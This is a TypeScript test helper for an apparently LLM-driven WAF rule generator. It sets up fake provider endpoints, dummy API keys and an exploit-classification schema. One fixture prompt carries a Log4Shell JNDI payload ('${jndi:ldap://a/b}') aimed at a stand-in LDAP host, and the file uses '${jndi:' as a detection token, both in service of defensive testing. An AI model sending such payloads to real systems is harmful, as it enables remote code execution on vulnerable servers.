// Shared set-up for the LLM tests: an environment pointing every provider at the fake server,
// with timings small enough to keep the suite fast.
import { z } from 'zod';

import { promptTextOf, type FakeLlm } from '../support/fake-llm/server.js';

export const KEYS = {
  OPENAI_API_KEY: 'sk-test-openai-0123456789abcdef',
  ANTHROPIC_API_KEY: 'sk-ant-test-0123456789abcdef',
  GOOGLE_GENERATIVE_AI_API_KEY: 'AIzaTest0123456789abcdefghijklmn',
  AWS_ACCESS_KEY_ID: 'AKIATESTKEY0123456789',
  AWS_SECRET_ACCESS_KEY: 'test/secret+access/key0123456789abcdefgh',
} as const;

export function fakeEnv(fake: FakeLlm, extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  return {
    ...KEYS,
    WAFGEN_LLM_PROVIDERS: 'openai,anthropic,google',
    OPENAI_BASE_URL: fake.baseURL('openai'),
    ANTHROPIC_BASE_URL: fake.baseURL('anthropic'),
    GOOGLE_BASE_URL: fake.baseURL('google'),
    AWS_REGION: 'us-east-1',
    AWS_ENDPOINT_URL_BEDROCK_RUNTIME: fake.baseURL('bedrock'),
    WAFGEN_OPENAI_COMPATIBLE_URL: fake.baseURL('openai-compatible'),
    WAFGEN_OPENAI_COMPATIBLE_MODEL: 'llama3.1:8b',
    WAFGEN_LLM_TIMEOUT_MS: '2000',
    WAFGEN_LLM_RETRIES: '0',
    WAFGEN_LLM_BACKOFF_INITIAL_MS: '5',
    WAFGEN_LLM_BACKOFF_MAX_MS: '20',
    WAFGEN_LLM_BREAKER_THRESHOLD: '100',
    ...extra,
  };
}

/**
 * wafgen's settings for one OpenAI provider on the fake, as the service, worker and job tests run it:
 * online (the LLM needs it) but no reference page fetched (those are real hosts; a test that wants
 * them sets WAFGEN_FETCH_REFERENCES=1 and injects a fetcher), no retries.
 */
export function openAiServiceEnv(fake: FakeLlm, extra: Record<string, string | undefined> = {}) {
  return {
    WAFGEN_OFFLINE: '0',
    WAFGEN_FETCH_REFERENCES: '0',
    WAFGEN_HTTP_TIMEOUT_MS: '1000',
    WAFGEN_LLM_PROVIDERS: 'openai',
    OPENAI_API_KEY: 'sk-test-not-a-real-key-0123',
    OPENAI_BASE_URL: fake.baseURL('openai'),
    WAFGEN_LLM_RETRIES: '0',
    ...extra,
  };
}

/** Rule-writing calls to a provider (not the small model's extraction), in arrival order. */
export const ruleWritingCalls = (fake: FakeLlm, provider: 'openai' | 'anthropic' = 'openai') =>
  fake
    .requestsFor(provider)
    .filter((r) => JSON.stringify(r.body).includes('waf_rule_statement'))
    .map((r) => ({
      batched: JSON.stringify(r.body).includes('waf_rule_statements'),
      prompt: promptTextOf(r.body),
    }));

/** The small structured output every test asks for. */
export const Verdict = z.object({
  cve: z.string(),
  attackClass: z.enum(['sqli', 'xss', 'jndi-injection']),
  tokens: z.array(z.string()).min(1),
});
export type Verdict = z.infer<typeof Verdict>;

export const VERDICT: Verdict = { cve: 'CVE-2021-44228', attackClass: 'jndi-injection', tokens: ['${jndi:'] };

export const ASK = {
  role: 'main' as const,
  schema: Verdict,
  system: 'You classify exploits.',
  prompt: 'Classify: GET /?x=${jndi:ldap://a/b}',
};
